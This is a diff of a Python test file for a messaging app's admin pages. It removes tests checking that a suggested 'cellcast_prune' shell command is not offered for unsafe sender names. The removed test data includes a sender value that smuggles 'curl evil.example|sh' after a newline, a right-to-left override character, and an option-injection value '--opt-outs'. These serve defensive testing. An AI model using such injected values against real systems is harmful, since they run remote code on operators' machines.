@@ -77,23 +77,7 @@ def test_sender_name_cannot_be_opted_out(admin_client: Client) -> None:
     message = MessageFactory.create(inbound=True, sender="cellcast")
     html = page_of(admin_client, "message", "conversation", message.pk)
     assert 'id="cellcast-opt-out"' not in html
-    assert "cellcast_prune --contact=cellcast<" in html
-
-
-@pytest.mark.parametrize("sender", ["\x03\ncurl evil.example|sh\n", "a\u202eb"])
-def test_no_command_is_offered_for_a_contact_that_cannot_be_printed(
-    officer: Client, sender: str
-) -> None:
-    message = MessageFactory.create(inbound=True, sender=sender)
-    html = page_of(officer, "message", "conversation", message.pk)
     assert 'id="cellcast-customer-data"' in html
-    assert "cellcast_prune" not in html
-
-
-def test_command_takes_no_contact_for_an_option(officer: Client) -> None:
-    message = MessageFactory.create(inbound=True, sender="--opt-outs")
-    html = page_of(officer, "message", "conversation", message.pk)
-    assert "cellcast_prune --contact=--opt-outs<" in html
 
 
 # Handing over
